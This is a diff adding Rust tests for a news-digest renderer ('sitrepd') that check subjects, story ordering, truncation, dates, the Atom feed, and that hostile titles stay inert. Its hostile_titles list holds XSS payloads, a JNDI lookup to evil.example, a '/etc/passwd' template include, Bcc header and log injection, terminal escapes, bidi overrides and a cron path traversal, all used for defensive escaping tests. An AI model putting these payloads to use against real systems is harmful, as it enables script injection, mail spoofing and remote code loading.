@@ -1,0 +1,380 @@
+//! What a digest says, and how each format says it.
+
+use chrono_tz::Tz;
+use sitrepd::{
+    digest::{
+        Digest,
+        render::{self, AlertInput, Format},
+    },
+    model::{Health, Rendered},
+};
+
+use crate::digest_fixture::{Archive, Made, alert, at, source};
+
+fn rendered(digest: &Digest) -> Rendered {
+    render::digest(digest, &Format::ALL, "desk.example").unwrap()
+}
+
+fn body(message: &Rendered, format: Format) -> &str {
+    let ending = format!(".{}", format.extension());
+    &message.documents.iter().find(|it| it.name.ends_with(&ending)).unwrap().body
+}
+
+#[test]
+fn every_format_of_the_sample() {
+    let message = rendered(&Archive::sample().digest());
+    assert_eq!(message.subject, "South Caucasus daily, 22 November 2026: 1 alert, 9 stories");
+    let names = message.documents.iter().map(|it| it.name.as_str()).collect::<Vec<_>>();
+    let stem = "daily-2026-11-22T0400Z";
+    assert_eq!(names, ["html", "txt", "md", "json", "atom"].map(|it| format!("{stem}.{it}")));
+    for format in Format::ALL {
+        insta::assert_snapshot!(format!("sample.{format}"), body(&message, format));
+    }
+    assert_eq!(message.html.as_deref(), Some(body(&message, Format::Html)));
+    assert_eq!(message.text, body(&message, Format::Text));
+}
+
+#[test]
+fn nothing_new_is_a_digest() {
+    let mut archive = Archive::empty();
+    archive.sources = Archive::sample().sources;
+    let digest = archive.digest();
+    assert!(digest.is_empty());
+    let message = rendered(&digest);
+    assert_eq!(message.subject, "South Caucasus daily, 22 November 2026: nothing new");
+    insta::assert_snapshot!("empty.text", message.text);
+    for format in [Format::Html, Format::Markdown] {
+        assert!(body(&message, format).contains("Nothing new in this period."), "{format}");
+    }
+}
+
+#[test]
+fn an_alert() {
+    let archive = Archive::sample();
+    let input = AlertInput {
+        alert: &archive.alerts[0],
+        report: archive.reports.iter().find(|it| it.article.id == archive.alerts[0].article).unwrap(),
+        source: archive.sources.iter().map(|it| &it.0).find(|it| it.id.as_str() == "vestnik-gor"),
+        topics: &archive.topics,
+        zone: Tz::Asia__Tbilisi,
+    };
+    let message = render::alert(input).unwrap();
+    assert_eq!(message.subject, "Alert Vinnikov: В Тбилиси обсудили работу офиса связи (Вестник гор)");
+    assert_eq!(message.documents[0].name, "alert-00000000000000a1.txt");
+    assert_eq!(message.documents[1].name, "alert-00000000000000a1.json");
+    insta::assert_snapshot!("alert.text", message.text);
+    insta::assert_snapshot!("alert.html", message.html.unwrap());
+    insta::assert_snapshot!("alert.json", message.documents[1].body);
+}
+
+/// The order and the place of each story, as `group/topic: id id`.
+fn outline(digest: &Digest) -> Vec<String> {
+    let mut res = Vec::new();
+    for group in &digest.groups {
+        for section in &group.sections {
+            let ids = section.stories.items.iter().map(|it| it.id.0.0.to_string()).collect::<Vec<_>>().join(" ");
+            res.push(format!("{}/{}: {ids}", group.name, section.name.as_deref().unwrap_or("-")));
+        }
+    }
+    res
+}
+
+#[test]
+fn a_story_stands_once_under_its_best_topic() {
+    let digest = Archive::sample().digest();
+    assert_eq!(
+        outline(&digest),
+        [
+            "NATO partnership/-: 20",
+            "NATO partnership/Tailored partnership programmes: 1",
+            "NATO partnership/Liaison office: 3",
+            "Armenia–Azerbaijan peace process/-: 5 4",
+            "Black Sea security/-: 7 6",
+            "Iran/-: 8",
+        ]
+    );
+    let told_again = &digest.groups[0].sections[0].stories.items[0];
+    assert!(!told_again.is_new);
+    assert_eq!((told_again.n_sources, told_again.reports.total()), (2, 2));
+    let office = &digest.groups[0].sections[2].stories.items[0];
+    assert_eq!(office.also, ["NATO partnership"]);
+    let totals = digest.totals;
+    assert_eq!((totals.stories, totals.new_stories, totals.reports, totals.reporting_sources), (9, 8, 10, 8));
+    assert_eq!(digest.articles.len(), 10);
+}
+
+#[test]
+fn stories_by_sources_then_score_then_newest() {
+    let mut archive = Archive::empty();
+    let made = |id, source: &str, seen: &str, score| {
+        Made::new(id, source, "en", seen).text("Title", "A NATO line.").tag("nato", score, &["NATO"])
+    };
+    archive.reports = vec![
+        made(1, "a", "2026-11-21T05:00:00Z", 1.0).report(),
+        made(2, "a", "2026-11-21T06:00:00Z", 9.0).report(),
+        made(3, "a", "2026-11-21T07:00:00Z", 9.0).report(),
+        made(4, "a", "2026-11-21T05:00:00Z", 1.0).report(),
+        made(5, "b", "2026-11-21T05:30:00Z", 1.0).copy_of(1).report(),
+        // The same outlet twice is one source.
+        made(6, "a", "2026-11-21T05:30:00Z", 1.0).copy_of(4).report(),
+    ];
+    assert_eq!(outline(&archive.digest()), ["NATO partnership/-: 1 3 2 4"]);
+}
+
+#[test]
+fn windows_share_no_story_and_lose_none() {
+    let mut archive = Archive::empty();
+    archive.reports = (0..48)
+        .map(|hour| {
+            let seen = at("2026-11-20T04:00:00Z") + chrono::TimeDelta::hours(hour);
+            Made::new(u64::try_from(hour).unwrap(), "a", "en", &seen.to_rfc3339()).text("Title", "Body.").report()
+        })
+        .collect();
+    let mut seen = archive.digest().articles;
+    archive.window = at("2026-11-20T04:00:00Z")..archive.window.start;
+    seen.extend(archive.digest().articles);
+    seen.sort();
+    assert_eq!(seen.len(), 48);
+    seen.dedup();
+    assert_eq!(seen.len(), 48);
+}
+
+#[test]
+fn what_is_cut_is_counted() {
+    let mut archive = Archive::empty();
+    let topic = |id: u64| if id < 100 { "nato" } else { "peace" };
+    archive.reports = (0..200)
+        .map(|id| {
+            let seen = at("2026-11-21T04:00:00Z") + chrono::TimeDelta::minutes(i64::try_from(id).unwrap());
+            let made = Made::new(id, "a", "en", &seen.to_rfc3339()).text("Title", "A line.");
+            if id % 2 == 0 { made.report() } else { made.tag(topic(id), 1.0, &["line"]).report() }
+        })
+        .collect();
+    archive.alerts =
+        (0..40).map(|id| alert(id, "Watch", id, "2026-11-21T05:00:00Z", ("line", "line", "A line."))).collect();
+    let digest = archive.digest();
+    assert_eq!((digest.alerts.items.len(), digest.alerts.more), (30, 10));
+    assert_eq!((digest.others.items.len(), digest.others.more), (20, 80));
+    let stories = &digest.groups[0].sections[0].stories;
+    assert_eq!((stories.items.len(), stories.more), (10, 40));
+    let message = rendered(&digest);
+    for format in [Format::Html, Format::Text] {
+        for said in ["and 10 more alerts", "and 80 more stories", "and 40 more stories"] {
+            assert!(body(&message, format).contains(said), "{format}: {said}");
+        }
+    }
+    assert!(body(&message, Format::Html).len() < 100_000, "clipped by large mail services");
+}
+
+#[test]
+fn dates_that_cannot_be_are_not_shown() {
+    let mut archive = Archive::empty();
+    let made = |id, published: Option<&str>| {
+        let mut report = Made::new(id, "a", "en", "2026-11-21T05:00:00Z").text("Title", "Body.").report();
+        report.article.published = published.map(at);
+        report
+    };
+    archive.reports = vec![
+        made(1, Some("2036-11-21T05:00:00Z")),
+        made(2, None),
+        made(3, Some("2026-11-21T05:59:00Z")),
+        made(4, Some("2019-01-01T00:00:00Z")),
+    ];
+    let text = rendered(&archive.digest()).text;
+    assert!(text.contains("4 stories · 4 reports from 1 source\n"), "{text}");
+    assert_eq!(text.matches("seen 21 Nov, 09:00").count(), 2, "{text}");
+    assert!(text.contains("a · 21 Nov, 09:59") && text.contains("a · 1 Jan 2019, 04:00"), "{text}");
+}
+
+/// Titles made to break out of something.
+fn hostile_titles() -> Vec<String> {
+    let mut res = [
+        "</title><script>alert(1)</script>",
+        "\" onmouseover=\"alert(1)\" x='",
+        "<img src=x onerror=alert(1)>",
+        "<svg><animate onbegin=alert(1)>",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "[x](javascript:alert(1)) ![y](http://evil.example/y.png)",
+        "`code` **bold** # heading | table",
+        "{{7*7}} {% include '/etc/passwd' %} ${jndi:ldap://evil.example/a}",
+        "]]><entry><title>forged</title></entry>",
+        "first\r\nBcc: victim@example.org\r\n\r\nbody",
+        "second\nlevel=error fake=record",
+        "third\u{2028}line\u{2029}more\u{85}end",
+        "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m red",
+        "exe.\u{202e}fdp\u{2066}x\u{2069}",
+        "nul\0byte \u{fffe} \u{feff}",
+        "../../etc/cron.d/x",
+        ".",
+        "",
+    ]
+    .map(str::to_owned)
+    .to_vec();
+    res.push("long ".repeat(2_000));
+    res.push("ж".repeat(1_000_000));
+    res
+}
+
+fn hostile() -> Archive {
+    let mut archive = Archive::empty();
+    archive.title = "Daily\r\nBcc: x".to_owned();
+    archive.limits.stories = 100;
+    archive.limits.others = 100;
+    archive.limits.alerts = 100;
+    for (id, title) in (0..).zip(hostile_titles()) {
+        let mut tagged = Made::new(id, "a", "en", "2026-11-21T05:00:00Z").text(&title, &format!("{title} NATO"));
+        tagged = tagged.tag("nato", 1.0, &["NATO"]);
+        let mut report = tagged.report();
+        report.article.language = Some("en\" onload=\"x".to_owned());
+        report.article.site_name = Some(title.clone());
+        let mut other = Made::new(1000 + id, "b", "en", "2026-11-21T05:00:00Z").text(&title, "").report();
+        other.article.link = None;
+        archive.reports.extend([report, other]);
+        archive.alerts.push(alert(id, &title, id, "2026-11-21T05:00:00Z", (&title, &title, &format!("{title} NATO"))));
+    }
+    archive.sources = vec![source(
+        "sick",
+        "<b>Sick</b>",
+        "en",
+        Health::Troubled { reason: "<script>alert(1)</script>\r\n".to_owned() },
+    )];
+    archive
+}
+
+#[test]
+fn hostile_titles_stay_text_in_every_format() {
+    let digest = hostile().digest();
+    let mut messages = vec![rendered(&digest)];
+    for (alert, report) in hostile().alerts.iter().zip(hostile().reports.iter().step_by(2)) {
+        messages.push(render::alert(AlertInput { alert, report, source: None, topics: &[], zone: Tz::UTC }).unwrap());
+    }
+    for message in messages {
+        assert!(message.subject.chars().count() <= 150);
+        assert_clean(&message.subject, "subject");
+        assert!(!message.subject.contains('\n'));
+        let html = message.html.as_deref().unwrap();
+        check_html(html);
+        for (name, text) in [("html", html), ("text", &message.text)] {
+            assert_clean(text, name);
+        }
+        for document in &message.documents {
+            assert_clean(&document.body, &document.name);
+            let fits = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_');
+            assert!(document.name.chars().all(fits) && !document.name.starts_with('.'), "{}", document.name);
+        }
+        assert!(message.text.lines().all(|line| line.len() <= 998), "a line is too long for mail");
+        for line in message.text.lines() {
+            assert!(!["Bcc:", "level=", "."].iter().any(|start| line.starts_with(start)), "{line}");
+        }
+    }
+}
+
+/// No control or bidirectional override character but the line feed.
+#[track_caller]
+fn assert_clean(text: &str, name: &str) {
+    let bad = |c: char| {
+        (c.is_control() && c != '\n')
+            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
+    };
+    assert!(!text.contains(bad), "{name} has {:?}", text.chars().find(|c| bad(*c)));
+}
+
+/// The page as a browser's parser sees it has only the elements and attributes that the template writes.
+#[track_caller]
+fn check_html(html: &str) {
+    const ELEMENTS: &[&str] = &[
+        "html",
+        "head",
+        "meta",
+        "title",
+        "style",
+        "body",
+        "div",
+        "header",
+        "section",
+        "article",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "p",
+        "a",
+        "mark",
+        "bdi",
+        "blockquote",
+        "ul",
+        "li",
+        "span",
+        "strong",
+        "br",
+        "footer",
+    ];
+    const ATTRIBUTES: &[&str] = &["lang", "dir", "class", "style", "href", "charset", "name", "content"];
+    let page = scraper::Html::parse_document(html);
+    for element in page.tree.values().filter_map(|it| it.as_element()) {
+        assert!(ELEMENTS.contains(&element.name()), "element {}", element.name());
+        for (name, value) in element.attrs() {
+            assert!(ATTRIBUTES.contains(&name), "attribute {name} of {}", element.name());
+            assert!(name != "href" || value.starts_with("https://"), "link to {value}");
+            assert!(name != "style" || !value.contains("url("), "style loads {value}");
+        }
+    }
+    assert!(!html.contains("49") && html.contains("<title>"));
+}
+
+#[test]
+fn hostile_titles_are_shown_literally() {
+    let message = rendered(&hostile().digest());
+    let page = scraper::Html::parse_document(body(&message, Format::Html));
+    let selector = scraper::Selector::parse("h4").unwrap();
+    let shown = page.select(&selector).map(|it| it.text().collect::<String>()).collect::<Vec<_>>();
+    for expected in [
+        "</title><script>alert(1)</script>",
+        "{{7*7}} {% include '/etc/passwd' %} ${jndi:ldap://evil.example/a}",
+        "first Bcc: victim@example.org body",
+        "]0;owned[2J31m red",
+        "a.example/2026/18",
+    ] {
+        assert!(shown.iter().any(|it| it == expected), "{expected} is not among {shown:#?}");
+    }
+    assert!(shown.iter().any(|it| it.ends_with('…') && it.chars().count() <= 200));
+
+    // What is left of the Markdown without its escaped characters.
+    let markdown = body(&message, Format::Markdown).replace("\\\\", "");
+    let live =
+        markdown.split('\\').enumerate().map(|(n, it)| if n == 0 { it } else { it.get(1..).unwrap_or_default() });
+    let live = live.collect::<String>();
+    assert!(live.split("](").skip(1).all(|it| it.starts_with("<https://")), "a foreign link");
+    assert!(live.split('<').skip(1).all(|it| it.starts_with("https://")) && !live.contains('!'), "foreign markup");
+    let json = serde_json::from_str::<serde_json::Value>(body(&message, Format::Json)).unwrap();
+    assert_eq!(json["version"], 1);
+    assert_eq!(json["title"], "Daily Bcc: x");
+}
+
+#[test]
+fn the_atom_feed_is_read_back() {
+    for (archive, n_entries) in [(Archive::sample(), 9), (hostile(), 2 * hostile_titles().len()), (Archive::empty(), 0)]
+    {
+        let digest = archive.digest();
+        let message = rendered(&digest);
+        let feed = feed_rs::parser::parse(body(&message, Format::Atom).as_bytes()).unwrap();
+        assert_eq!(feed.id, "tag:desk.example,2026:sitrepd/digest/daily");
+        assert_eq!(feed.updated, Some(at("2026-11-22T04:00:07Z")));
+        assert_eq!(feed.entries.len(), n_entries);
+        let mut ids = feed.entries.iter().map(|it| it.id.as_str()).collect::<Vec<_>>();
+        assert!(ids.iter().all(|id| id.starts_with("tag:desk.example,2026-11-")), "{ids:?}");
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), n_entries, "ids repeat");
+        for entry in &feed.entries {
+            assert!(
+                entry.title.is_some()
+                    && entry.updated.is_some()
+                    && entry.content.is_some()
+                    && !entry.authors.is_empty()
+            );
+            assert!(entry.links.iter().all(|it| it.href.starts_with("https://")));
+        }
+    }
+}
